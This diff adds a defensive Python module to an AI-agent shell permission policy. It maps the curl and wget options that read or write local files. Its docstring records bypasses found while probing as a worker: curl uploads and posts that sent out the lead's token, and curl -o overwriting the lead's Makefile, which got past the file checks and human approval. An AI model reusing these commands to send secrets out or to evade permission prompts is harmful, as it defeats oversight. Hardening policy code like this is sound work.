@@ -1,0 +1,154 @@
+"""The local files an HTTP client reads and writes through its options.
+
+Found probing as a worker: ``curl`` and ``wget`` were judged only by the hosts they
+reach, so ``curl -T ../../.exomonad/lead.token file:///p/.worktrees/w1/x`` copied the
+lead's token into the worktree, allowed; ``curl -d @../../.exomonad/lead.token URL``
+and ``wget --post-file`` reached a person as "network access to URL" (approving sent
+the token); ``curl -o ../../Makefile URL`` overwrote the lead's file under the same
+question. Each file an option names is now a read or a write of its own, judged as
+``cat`` or ``>`` of it would be.
+
+>>> from exomonad.policy.shell_env import scan_options
+>>> from exomonad.policy.shell_lex import Word
+>>> words = [Word(t) for t in "-sS -d @../t -F f=<k;type=x -o out URL".split()]
+>>> _, opts = scan_options(words, CURL_WITH_ARG)
+>>> http_files("curl", opts, "/w")
+[ReadFile(path='/t', recursive=False, include=()), ReadFile(path='/w/k', \
+recursive=False, include=()), WriteFile(path='/w/out')]
+"""
+
+from __future__ import annotations
+
+from exomonad.policy.actions import Action, ReadFile, WriteFile
+from exomonad.policy.shell_env import Options
+from exomonad.policy.shell_lex import Word
+from exomonad.policy.shell_parse import resolve_path
+from exomonad.policy.shell_reads import option_set
+
+__all__ = ["CURL_WITH_ARG", "WGET_WITH_ARG", "http_files"]
+
+#: curl's options naming a file it reads, as a whole value.
+_CURL_READS = ("-T", "--upload-file", "-K", "--config", "--netrc-file", "--key", "--cert",
+               "--cacert", "--capath", "--proxy-cacert", "--proxy-cert", "--proxy-key",
+               "--crlfile", "--etag-compare", "--hsts", "--alt-svc")  # fmt: skip
+#: curl's options whose value reads a file when it starts with ``@``.
+_CURL_AT = ("-d", "--data", "--data-ascii", "--data-binary", "--json", "-H", "--header",
+            "--proxy-header", "-w", "--write-out", "--url-query")  # fmt: skip
+#: curl's options reading a file after ``@`` unless a ``=`` comes first (``name@file``).
+_CURL_NAME_AT = ("--data-urlencode", "--variable")
+#: curl's form options: ``name=@file`` or ``name=<file`` (``;type=...`` may follow).
+_CURL_FORMS = ("-F", "--form")
+#: curl's options naming a file (or, ``--output-dir``, a directory) it writes.
+_CURL_WRITES = ("-o", "--output", "--output-dir", "-D", "--dump-header", "-c",
+                "--cookie-jar", "--trace", "--trace-ascii", "--stderr", "--etag-save",
+                "--libcurl", "--hsts", "--alt-svc")  # fmt: skip
+#: wget's options naming a file (or directory) it reads / writes.
+_WGET_READS = ("-i", "--input-file", "--post-file", "--body-file", "--load-cookies",
+               "--config", "--ca-certificate", "--certificate", "--private-key",
+               "--ca-directory", "--crl-file", "--hsts-file")  # fmt: skip
+_WGET_WRITES = ("-O", "--output-document", "-o", "--output-file", "-a", "--append-output",
+                "-P", "--directory-prefix", "--save-cookies", "--warc-file",
+                "--rejected-log", "--hsts-file")  # fmt: skip
+#: The wgetrc commands ``wget -e`` runs that name a file it reads / writes (their names
+#: without case, ``_`` or ``-``, as wget reads them: ``-e post_file=F``, ``-e Post-File=F``).
+_WGETRC_READS = frozenset({"postfile", "bodyfile", "input", "loadcookies", "certificate",
+                           "privatekey", "cacertificate", "cadirectory", "crlfile",
+                           "hstsfile"})  # fmt: skip
+_WGETRC_WRITES = frozenset({"outputdocument", "logfile", "dirprefix", "savecookies",
+                            "warcfile", "rejectedlog", "hstsfile"})  # fmt: skip
+
+#: Options taking a value, for :func:`~exomonad.policy.shell_env.scan_options`.
+CURL_WITH_ARG = option_set(
+    "-A -b -c -C -d -D -e -E -F -H -K -m -o -P -Q -r -T -u -U -w -x -X -Y -y -z "
+    "--data --data-raw --data-binary --data-urlencode --data-ascii --json --header "
+    "--user-agent --referer --output --cookie --cookie-jar --user --proxy --request "
+    "--max-time --connect-timeout --resolve --cacert --capath --cert --key --config --form "
+    "--form-string --upload-file --write-out --retry --output-dir --limit-rate --interface "
+    "--dns-servers --connect-to --unix-socket --abstract-unix-socket --dump-header --trace "
+    "--trace-ascii --stderr --etag-save --etag-compare --hsts --alt-svc --libcurl "
+    "--netrc-file --proxy-cacert --proxy-cert --proxy-key --crlfile --variable --url-query "
+    "--proxy-header --url"
+)
+WGET_WITH_ARG = option_set(
+    "-O -o -a -P -U -e -t -T -w -i -B --output-document --output-file --append-output "
+    "--directory-prefix --user-agent --header --tries --timeout --wait --input-file "
+    "--post-data --post-file --body-file --user --password --load-cookies --save-cookies "
+    "--method --body-data --config --ca-certificate --certificate --private-key "
+    "--ca-directory --crl-file --hsts-file --warc-file --rejected-log --execute"
+)
+
+
+def _values(opts: Options, names: tuple[str, ...]) -> list[Word]:
+    return [w for name in names for w in opts.get(name, []) if w is not None]
+
+
+def _file(word: Word, text: str, cwd: str | None) -> str | None:
+    """The path ``text`` (a part of ``word``) names; None when the command line does not
+    tell it (an expansion in the word)."""
+    return None if word.dynamic else resolve_path(cwd, Word(text, False, word.quoted))
+
+
+def _after_at(word: Word, *, named: bool) -> str | None:
+    """The file of an ``@file`` value (``named``: ``name@file`` too, unless ``=`` comes
+    before the ``@``); None when the value is data, not a file, or is stdin (``@-``)."""
+    text = word.text
+    if named:
+        at = text.find("@")
+        if at < 0 or "=" in text[:at]:
+            return None
+        found = text[at + 1 :]
+    elif text.startswith("@"):
+        found = text[1:]
+    else:
+        return None
+    return None if found in ("", "-") else found
+
+
+def _form_file(word: Word) -> str | None:
+    """The file of a form field ``name=@file`` or ``name=<file`` (up to a ``;``)."""
+    _, eq, value = word.text.partition("=")
+    if not eq or value[:1] not in ("@", "<"):
+        return None
+    found = value[1:].split(";", 1)[0].strip('"')
+    return None if found in ("", "-") else found
+
+
+def _paths(words: list[Word], cwd: str | None) -> list[str | None]:
+    return [_file(w, w.text, cwd) for w in words if w.text != "-"]
+
+
+def _wgetrc(words: list[Word], keys: frozenset[str], cwd: str | None) -> list[str | None]:
+    """The files the ``wget -e KEY=FILE`` commands among ``words`` name, for ``keys``."""
+    found: list[str | None] = []
+    for word in words:
+        key, eq, value = word.text.partition("=")
+        name = key.strip().lower().replace("_", "").replace("-", "")
+        if eq and name in keys and value.strip() != "-":
+            found.append(_file(word, value.strip(), cwd))
+    return found
+
+
+def http_files(name: str, opts: Options, cwd: str | None) -> list[Action]:
+    """What ``curl`` or ``wget`` reads and writes of the local files its options name
+    (none for other clients: httpie's ``@file`` items are not read here)."""
+    writes: tuple[str, ...]
+    if name == "wget":
+        commands = _values(opts, ("-e", "--execute"))
+        reads = _paths(_values(opts, _WGET_READS), cwd) + _wgetrc(commands, _WGETRC_READS, cwd)
+        written = _wgetrc(commands, _WGETRC_WRITES, cwd)
+        writes = _WGET_WRITES
+    elif name == "curl":
+        reads = _paths(_values(opts, _CURL_READS), cwd)
+        reads += [_file(w, f, cwd) for w in _values(opts, _CURL_AT)
+                  if (f := _after_at(w, named=False)) is not None]  # fmt: skip
+        reads += [_file(w, f, cwd) for w in _values(opts, _CURL_NAME_AT)
+                  if (f := _after_at(w, named=True)) is not None]  # fmt: skip
+        reads += [_file(w, f, cwd) for w in _values(opts, _CURL_FORMS)
+                  if (f := _form_file(w)) is not None]  # fmt: skip
+        cookies = [w for w in _values(opts, ("-b", "--cookie")) if "=" not in w.text]
+        reads += _paths(cookies, cwd)
+        writes, written = _CURL_WRITES, []
+    else:
+        return []
+    written += _paths(_values(opts, writes), cwd)
+    return [*(ReadFile(p) for p in reads), *(WriteFile(p) for p in written)]
